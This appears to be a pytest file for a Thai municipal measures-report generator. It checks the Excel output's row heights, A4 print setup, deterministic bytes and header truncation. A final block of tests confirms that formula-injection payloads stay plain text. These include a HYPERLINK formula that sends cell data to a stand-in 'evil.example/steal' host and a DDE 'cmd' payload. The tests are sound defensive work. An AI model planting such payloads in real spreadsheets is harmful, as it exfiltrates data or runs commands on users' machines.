"""The Excel file as it prints: rows tall enough for their text, A4 landscape one page wide.

Built in process from the sample's params and read back with openpyxl, as a file.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from ita_report.params import load_params
from ita_report.report import MeasuresDocument, build_document
from ita_report.report.office import office_font
from ita_report.report.xlsx import (
    GAPS_SHEET,
    HEADER_CHARS,
    MAX_ROW_PT,
    MEASURE_WIDTHS,
    MEASURES_SHEET,
    text_lines,
    xlsx_bytes,
)

ROOT = Path(__file__).resolve().parent.parent
PARAMS = ROOT / "params" / "chaemae-2566.yaml"


def document(**settings: Any) -> MeasuresDocument:
    return build_document(load_params(PARAMS, document=settings))


def workbook(doc: MeasuresDocument) -> Any:
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes(doc)))


@pytest.mark.parametrize("font", ["TH Sarabun New", "Sarabun"])
def test_every_row_is_as_tall_as_its_longest_cell(font: str) -> None:
    sheet = workbook(document(font=font))[MEASURES_SHEET]
    measured = office_font(font)
    heights = []
    for number, row in enumerate(sheet.iter_rows(min_row=1, values_only=True), start=1):
        if all(value is None for value in row):
            break  # the notes below the table
        height = sheet.row_dimensions[number].height
        assert height is not None, f"row {number} has no height: Excel would print one line"
        lines = max(text_lines(v, w, measured) for v, w in zip(row, MEASURE_WIDTHS, strict=False))
        # At least one line of the table's size for each line of its tallest cell.
        assert height >= min(MAX_ROW_PT, lines * measured.table_pt), (number, lines, height)
        heights.append(height)
    assert len(heights) > 3 and max(heights) > 3 * min(heights)  # rows differ as their text does
    assert sheet.cell(row=2, column=1).font.name == font


def test_a_long_cell_wraps_to_more_lines_than_a_short_one() -> None:
    font = office_font("Sarabun")
    assert text_lines("ก", 10, font) == 1
    assert text_lines("ก" * 200, 10, font) > 5
    assert text_lines("บรรทัดหนึ่ง\nบรรทัดสอง", 40, font) == 2
    # Tone and vowel marks above and below a letter take no width.
    assert text_lines("ที่" * 30, 10, font) == text_lines("ท" * 30, 10, font)


@pytest.mark.parametrize("name", [MEASURES_SHEET, GAPS_SHEET])
def test_each_sheet_prints_a4_landscape_one_page_wide(name: str) -> None:
    sheet = workbook(document(letterhead="สำนักปลัดเทศบาล"))[name]
    setup = sheet.page_setup
    assert setup.orientation == "landscape" and int(setup.paperSize) == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    # One page wide, as many pages down as the rows need.
    assert int(setup.fitToWidth) == 1 and int(setup.fitToHeight) == 0
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.oddHeader.left.text == "สำนักปลัดเทศบาล"
    assert sheet.oddFooter.center.text == "&P"


def test_the_same_inputs_and_date_give_the_same_bytes() -> None:
    first = xlsx_bytes(document(date="2567-10-01"))
    assert xlsx_bytes(document(date="2567-10-01")) == first
    core = zipfile.ZipFile(io.BytesIO(first)).read("docProps/core.xml").decode()
    assert "2024-10-01T00:00:00Z" in core
    assert xlsx_bytes(document(date="2567-10-02")) != first


def test_a_long_letterhead_is_cut_to_what_an_excel_page_header_holds() -> None:
    sheet = workbook(document(letterhead="ก" * 300))[MEASURES_SHEET]
    left, centre = sheet.oddHeader.left.text, sheet.oddHeader.center.text
    assert left.endswith("…") and len(left) + len(centre) <= HEADER_CHARS


# -- issue 21 case 6: an officer's text is never a live formula -------------------------------
EVIL = {
    "measure_th": '=HYPERLINK("http://evil.example/steal?d="&B2,"คลิก")',
    "steps_th": ["=1+1", "+SUM(1,2)", "@cmd", "-ขั้นตอนที่มีขีดนำ"],
    "unit_th": "=cmd|'/C calc'!A0",
}


def evil_params() -> Any:
    import yaml

    overrides = yaml.safe_load(PARAMS.read_text(encoding="utf-8"))["theme_overrides"]
    overrides["work_process"]["below_target"].update(EVIL)
    return load_params(PARAMS, theme_overrides=overrides)


def assert_text_only(data: bytes, texts: list[str]) -> None:
    """No cell of the saved workbook is a formula, and each text shows as written."""
    from ita_report.thai import to_arabic_digits

    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas would show
    shown = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    shown.append(to_arabic_digits(cell.value))  # the report's Thai digits
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
    for text in texts:
        assert any(text in value for value in shown), text
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_formula_like_text_in_the_measures_workbook_stays_text() -> None:
    doc = build_document(evil_params())
    assert_text_only(xlsx_bytes(doc), [EVIL["measure_th"], EVIL["unit_th"], *EVIL["steps_th"]])


def test_formula_like_text_in_the_progress_command_stays_text(tmp_path: Path) -> None:
    from ita_report.officer.progress import progress_bytes

    doc = build_document(evil_params())
    assert_text_only(progress_bytes(doc), [EVIL["measure_th"], "=1+1"])
